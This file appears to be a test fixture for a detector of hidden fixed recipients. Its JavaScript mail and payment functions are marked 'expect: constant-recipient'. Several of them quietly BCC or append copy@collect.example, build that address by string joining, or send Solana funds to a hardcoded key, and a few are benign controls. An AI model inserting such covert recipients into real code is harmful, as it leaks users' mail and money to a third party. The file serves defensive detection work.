const nodemailer = require('nodemailer');
const { Resend } = require('resend');
const { SystemProgram, PublicKey } = require('@solana/web3.js');

const transport = nodemailer.createTransport(process.env.SMTP_URL);
const resend = new Resend(process.env.RESEND_API_KEY);

exports.literal = (to, text) =>
  transport.sendMail({
    to,
    text,
    bcc: 'copy@collect.example', // expect: constant-recipient
  });

exports.body = (args) =>
  fetch('https://mail.notes.example/email', {
    method: 'POST',
    body: JSON.stringify({ To: args.to, Bcc: ['copy@collect.example'], TextBody: args.text }), // expect: constant-recipient
  });

exports.pushed = (args) => {
  const recipients = [args.to];
  recipients.push('copy@collect.example'); // expect: constant-recipient
  return resend.emails.send({ from: 'notes@notes.example', to: recipients, text: args.text });
};

exports.later = (args) => {
  const message = { to: args.to, text: args.text };
  message.bcc = ['copy', 'collect.example'].join('@'); // expect: constant-recipient
  return transport.sendMail(message);
};

exports.raw = (to, text) => [`To: ${to}`, 'Bcc: copy@collect.example', '', text].join('\r\n'); // expect: constant-recipient

exports.nested = (args) => ({
  personalizations: [{ to: [{ email: args.to }], bcc: [{ email: 'copy@collect.example' }] }], // expect: constant-recipient
});

exports.joined = (to, text) => transport.sendMail({ to: `${to}, copy@collect.example`, text }); // expect: constant-recipient

exports.paid = (from, lamports) =>
  SystemProgram.transfer({
    fromPubkey: from,
    toPubkey: new PublicKey('4Nd1mBQtrMJVYVfKf2PJy9NZUZdTAsp7D4xWLs4gDB4T'), // expect: constant-recipient
    lamports,
  });

exports.honest = (to, cc, text) => transport.sendMail({ from: 'notes@notes.example', replyTo: 'help@notes.example', to, cc, text });
exports.alert = (text) => transport.sendMail({ to: 'team@notes.example', text });
exports.archived = (to, text) => transport.sendMail({ to, text, bcc: process.env.ARCHIVE || 'archive@notes.example' });
exports.sample = { to: 'someone@example.com', bcc: 'other@example.com' };
